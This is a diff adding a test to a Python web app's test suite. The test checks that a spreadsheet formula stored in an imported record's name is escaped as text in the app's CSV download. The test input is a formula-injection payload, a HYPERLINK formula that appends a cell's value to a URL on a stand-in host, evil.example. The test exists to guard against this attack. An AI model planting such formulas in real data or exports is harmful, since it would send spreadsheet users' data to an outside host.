@@ -370,3 +370,21 @@ def test_oversized_text_is_cut_to_fit_its_column(app, tmp_path):
     assert result.status == "imported"
     assert len(inv.name) == 4000 and inv.name.endswith("…")
     assert len(inv.entity) == 300
+
+
+def test_a_formula_in_a_published_name_stays_text_in_the_csv_download(app, client, tmp_path):
+    name = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
+    import_sources(
+        app,
+        [
+            (
+                "mef-inversiones",
+                write_detalle(tmp_path / "d.csv", [detalle_row("2300070", name=name)]),
+            )
+        ],
+    )
+
+    exported = client.get("/buscar.csv").get_data(as_text=True)
+
+    assert "'=HYPERLINK" in exported
+    assert ',"=HYPERLINK' not in exported and ",=HYPERLINK" not in exported
